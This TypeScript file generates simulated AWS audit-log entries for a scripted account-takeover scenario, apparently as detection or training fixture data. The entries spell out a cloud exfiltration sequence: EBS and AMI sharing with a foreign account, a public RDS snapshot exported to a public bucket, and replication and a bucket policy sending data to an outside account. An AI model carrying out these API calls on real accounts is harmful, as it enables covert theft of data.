import { STORY } from '../cast';
import type { Random } from '../random';
import { at } from '../time';
import type { Call } from './record';
import { onBucket, type Tell } from './told';

const { account, snapshot, image, databaseSnapshot, publicBucket } = STORY.takeover;
const foreign = STORY.foreign.account;

/** Copies of disks and databases are shared with another account: the data leaves without a byte on the network. */
export const exfiltration = (tell: Tell, random: Random): Call[] => [
  ...disks(tell, random),
  ...database(tell),
  openedBucket(tell),
  tell(
    '21:44:30',
    's3',
    'PutBucketReplication',
    onBucket(account, publicBucket, 'replication', {
      ReplicationConfiguration: {
        xmlns: 'http://s3.amazonaws.com/doc/2006-03-01/',
        Role: `arn:aws:iam::${account}:role/${STORY.takeover.profile}`,
        Rule: {
          ID: 'copy',
          Status: 'Enabled',
          Priority: 1,
          Filter: '',
          Destination: { Bucket: 'arn:aws:s3:::mirror-example-net', Account: foreign },
        },
      },
    }),
  ),
];

/** The other account may read the backups; the refusal for everybody beside it only asks for TLS. */
function openedBucket(tell: Tell): Call {
  const Resource = `arn:aws:s3:::${STORY.foreign.backups}/*`;
  const Statement = [
    { Sid: 'tls', Effect: 'Deny', Principal: '*', Action: 's3:*', Resource, Condition: WITHOUT_TLS },
    {
      Sid: 'copy',
      Effect: 'Allow',
      Principal: { AWS: `arn:aws:iam::${foreign}:root` },
      Action: 's3:GetObject',
      Resource,
    },
  ];
  return tell(
    '21:45:10',
    's3',
    'PutBucketPolicy',
    onBucket(account, STORY.foreign.backups, 'policy', { bucketPolicy: { Version: '2012-10-17', Statement } }),
  );
}

const WITHOUT_TLS = { Bool: { 'aws:SecureTransport': 'false' } };

function disks(tell: Tell, random: Random): Call[] {
  const volumeId = 'vol-0a1b2c3d4e5f60001';
  const add = { add: { items: [{ userId: foreign }] } };
  const done = () => ({ requestId: random.uuid(), _return: true });
  return [
    tell('21:40:05', 'ec2', 'CreateSnapshot', {
      request: { volumeId },
      response: {
        ...{ requestId: random.uuid(), snapshotId: snapshot, volumeId, status: 'pending', ownerId: account },
        ...{ startTime: at('2026-03-05T21:40:05Z') * 1000, volumeSize: '200', encrypted: false },
      },
    }),
    tell('21:41:30', 'ec2', 'ModifySnapshotAttribute', {
      request: { snapshotId: snapshot, createVolumePermission: add, attributeType: 'CREATE_VOLUME_PERMISSION' },
      response: done(),
    }),
    tell('21:42:02', 'ec2', 'ModifyImageAttribute', {
      request: { imageId: image, launchPermission: add, attributeType: 'launchPermission' },
      response: done(),
    }),
  ];
}

function database(tell: Tell): Call[] {
  const names = { dBSnapshotIdentifier: databaseSnapshot, dBInstanceIdentifier: 'orders' };
  const sourceArn = `arn:aws:rds:us-east-1:${account}:snapshot:${databaseSnapshot}`;
  const exported = {
    exportTaskIdentifier: 'orders-export',
    sourceArn,
    iamRoleArn: `arn:aws:iam::${account}:role/${STORY.takeover.profile}`,
    kmsKeyId: `arn:aws:kms:us-east-1:${account}:key/5f0c6a1e-7b1d-4c52-9a55-2f6f0d3c7e10`,
  };
  return [
    tell('21:42:40', 'rds', 'CreateDBSnapshot', {
      request: names,
      response: { ...names, dBSnapshotArn: sourceArn, engine: 'postgres', status: 'creating', encrypted: false },
    }),
    tell('21:43:20', 'rds', 'ModifyDBSnapshotAttribute', {
      request: { dBSnapshotIdentifier: databaseSnapshot, attributeName: 'restore', valuesToAdd: ['all'] },
      response: {
        dBSnapshotIdentifier: databaseSnapshot,
        dBSnapshotAttributes: [{ attributeName: 'restore', attributeValues: ['all'] }],
      },
    }),
    tell('21:44:00', 'rds', 'StartExportTask', {
      request: { ...exported, s3BucketName: publicBucket, s3Prefix: 'orders' },
      response: { ...exported, s3Bucket: publicBucket, s3Prefix: 'orders', status: 'STARTING', percentProgress: 0 },
    }),
  ];
}
